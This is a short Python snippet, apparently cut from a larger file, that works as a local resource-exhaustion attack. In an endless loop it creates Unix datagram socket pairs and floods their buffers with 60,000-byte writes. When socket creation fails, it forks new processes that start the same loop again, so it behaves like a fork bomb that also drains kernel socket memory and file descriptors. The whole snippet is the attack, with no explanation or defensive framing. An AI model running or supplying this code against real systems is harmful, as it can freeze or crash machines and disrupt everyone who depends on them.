pairs = []
while True:
    try:
        pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    except OSError:
        if os.fork() != 0:
            import time
            time.sleep(60)
        pairs = []
        continue
    pair[0].setblocking(False)
    pairs.append(pair)
    try:
        while True:
            pair[0].send(b"x" * 60_000)
    except OSError:
        pass
